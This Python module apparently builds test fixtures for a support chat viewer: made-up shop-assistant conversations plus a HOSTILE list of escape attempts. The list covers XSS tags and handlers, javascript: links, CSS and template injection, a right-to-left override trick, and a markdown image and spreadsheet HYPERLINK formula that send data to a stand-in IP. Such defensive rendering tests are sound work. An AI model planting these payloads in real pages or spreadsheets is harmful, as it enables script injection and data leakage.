"""Made-up conversations of a support assistant, and texts that try to break out of the page that shows them."""

from __future__ import annotations

import json
import random

QUESTIONS = (
    "Where is my order {n}?",
    "How do I return the blue jacket from order {n}?",
    "My invoice {n} shows the wrong address. Can you change it?",
    "Can I still cancel order {n}?",
    "The discount code SPRING{n} does not work.",
    "How long does delivery to Norway take?",
)
ANSWERS = (
    "Your order {n} left our warehouse this morning and should arrive within two working days.",
    "You can return it within 30 days. I have sent a label to the address on file.",
    "I have corrected the address on invoice {n}. A new copy is on its way to you.",
    "Order {n} has not been packed yet, so I have cancelled it for you.",
    "Delivery to Norway usually takes four to six working days.",
)
REFUSALS = ("I'm sorry, but I can't help with that request.", "I am unable to assist with orders or invoices.")
FILLER = (
    "Please keep the parcel slip until the refund has arrived.",
    "If anything else comes up, reply to this message and we will look into it together.",
    "Our team is reachable on weekdays from eight to six.",
    "You will find the current state of your order under My account.",
    "Refunds are paid back the way you paid, usually within five days.",
)
SYSTEM = "You are the support assistant of a clothing shop. Answer briefly. Never promise a refund."

HOSTILE = (
    "<script>window.pwned=1</script>",
    "<img src=x onerror='window.pwned=1'>",
    "![leak](http://198.51.100.7/leak.png)",
    "[click](javascript:window.pwned=1) <https://198.51.100.7/a>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    '"><svg/onload=window.pwned=1>',
    ":red[markdown] :material/home: $\\href{javascript:pwned=1}{x}$ <b onmouseover=pwned=1>b</b>",
    "</div></body><style>*{display:none}</style>",
    '=HYPERLINK("http://198.51.100.7/?"&A1,"x")',
    "{{constructor.constructor('window.pwned=1')()}} ${pwned=1} \u202egnp.exe \x1b[31mred\x1b[0m",
)


def question(rng: random.Random) -> str:
    return rng.choice(QUESTIONS).format(n=rng.randint(1000, 99999))


def answer(rng: random.Random, *, refuses: bool, sentences: int) -> str:
    if refuses:
        return rng.choice(REFUSALS)
    first = rng.choice(ANSWERS).format(n=rng.randint(1000, 99999))
    return " ".join([first, *(rng.choice(FILLER) for _ in range(sentences))])


def messages(*turns: tuple[str, str]) -> str:
    return json.dumps([{"role": role, "parts": [{"type": "text", "content": text}]} for role, text in turns])
